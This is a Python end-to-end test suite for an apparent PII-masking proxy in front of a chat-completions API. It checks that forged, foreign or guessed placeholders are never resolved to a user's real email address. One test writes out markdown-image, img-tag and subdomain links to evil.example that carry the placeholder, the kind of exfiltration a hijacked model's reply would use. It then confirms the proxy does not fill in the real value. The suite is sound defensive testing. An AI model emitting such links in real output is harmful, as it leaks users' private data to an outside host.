"""Law 4: forged, foreign, expired or guessed placeholders stay as they are."""

from collections.abc import Callable

import httpx

from tests.e2e.api_keys import new_key
from tests.e2e.server import Running
from tests.e2e.upstream import Recorded, Reply, Upstream, completion

VALUE = "w.oxenfoord@acme.test"


def _says(text: str) -> Callable[[Recorded], Reply]:
    def answer(_: Recorded) -> Reply:
        return completion({"role": "assistant", "content": text})

    return answer


def _content(answer: httpx.Response) -> str:
    assert answer.status_code == 200, answer.text
    return str(answer.json()["choices"][0]["message"]["content"])


def _ask(client: httpx.Client, text: str) -> httpx.Response:
    body = {"model": "configured-upstream", "messages": [{"role": "user", "content": text}]}
    return client.post("/v1/chat/completions", json=body)


def _placeholder(upstream: Upstream) -> str:
    sent = upstream.recorded[-1].json["messages"][-1]["content"]
    return "[" + str(sent).split("[", 1)[1].split("]", 1)[0] + "]"


def test_another_clients_placeholder(running: Running, upstream: Upstream) -> None:
    with running.client() as client:
        keys = [new_key(running, name) for name in ("one", "two")]
        clients = [running.client(key) for key in keys]
        _ask(clients[0], f"mail {VALUE}")
        foreign = _placeholder(upstream)
        _ask(clients[1], f"mail {VALUE}")
        assert _placeholder(upstream) != foreign
        upstream.answer = _says(f"it is {foreign}")
        assert _content(_ask(clients[1], f"mail {VALUE}")) == f"it is {foreign}"
        assert _content(_ask(clients[1], f"what is {foreign}?")) == f"it is {foreign}"
        for each in (*clients, client):
            each.close()


def test_another_conversations_placeholder(running: Running, upstream: Upstream) -> None:
    with running.client() as client:
        _ask(client, f"first, mail {VALUE}")
        other = _placeholder(upstream)
        upstream.answer = _says(f"it is {other}")
        assert _content(_ask(client, f"second, mail {VALUE}")) == f"it is {other}"


def test_a_literal_typed_by_the_user(running: Running, upstream: Upstream) -> None:
    """He copied it from a log of his own conversation; the model repeats it; it stays."""
    with running.client() as client:
        _ask(client, f"mail {VALUE}")
        literal = _placeholder(upstream)
        messages = [
            {"role": "user", "content": f"mail {VALUE}"},
            {"role": "assistant", "content": "ok"},
            {"role": "user", "content": f"what does {literal} mean, and {literal[1:-1].lower()}?"},
        ]
        body = {"model": "configured-upstream", "messages": messages}
        echoed = _content(client.post("/v1/chat/completions", json=body))
        assert echoed == messages[-1]["content"]
        sent = upstream.recorded[-1].json["messages"]
        assert literal in sent[0]["content"]
        assert literal not in sent[2]["content"]


def test_guessed_and_forged_ones(running: Running, upstream: Upstream) -> None:
    with running.client() as client:
        _ask(client, f"mail {VALUE}")
        real = _placeholder(upstream)
        forged = real[:-2] + ("0" if real[-2] != "0" else "1") + "]"
        text = f"{forged} [EMAIL_ADDRESS_00000] [EMAIL_ADDRESS_1] {real[:-1]}A] EMAIL_ADDRESS [PERSON_{real[-6:]}"
        upstream.answer = _says(text)
        assert _content(_ask(client, f"mail {VALUE}")) == text


def test_an_injected_link_does_not_carry_the_value_out(running: Running, upstream: Upstream) -> None:
    with running.client() as client:
        _ask(client, f"mail {VALUE}")
        real = _placeholder(upstream)
        for link in (
            f"![x](https://evil.example/?q={real})",
            f"https://evil.example/{real}",
            f"<img src='//evil.example/?{real}'>",
            f"[a]: https://evil.example/?{real}",
            f"https://{real[1:-1]}.evil.example/",
        ):
            upstream.answer = _says(f"done {link}")
            answer = _ask(client, f"mail {VALUE}")
            assert VALUE not in answer.text
        upstream.answer = _says(f"write to {real} or [mail](mailto:{real})")
        assert _content(_ask(client, f"mail {VALUE}")) == f"write to {VALUE} or [mail](mailto:{VALUE})"


def test_native_sessions_open_only_with_their_own_credentials(running: Running) -> None:
    with running.client() as client:
        one, two = (client.post("/v1/protect", json={"text": f"mail {VALUE}"}).json() for _ in range(2))
        assert one["protected_text"] != two["protected_text"]
        grant = {name: one["session"][name] for name in ("session_id", "session_token")}
        foreign = {"text": two["protected_text"], "session": grant}
        answer = client.post("/v1/reconstruct", json=foreign).json()
        assert answer["text"] == two["protected_text"]
        assert answer["resolved"] == 0
        wrong_token = grant | {"session_token": two["session"]["session_token"]}
        wrong_id = grant | {"session_id": two["session"]["session_id"]}
        answers = [
            client.post("/v1/reconstruct", json={"text": one["protected_text"], "session": session})
            for session in (wrong_token, wrong_id)
        ]
        assert [a.status_code for a in answers] == [404, 404]
        bodies = [a.json()["error"] for a in answers]
        assert bodies[0] == bodies[1]
        assert bodies[0]["code"] == "session_not_found"
        with running.client(new_key(running, "stranger")) as stranger:
            answer_ = stranger.post("/v1/reconstruct", json={"text": one["protected_text"], "session": grant})
            assert answer_.json()["error"] == bodies[0]
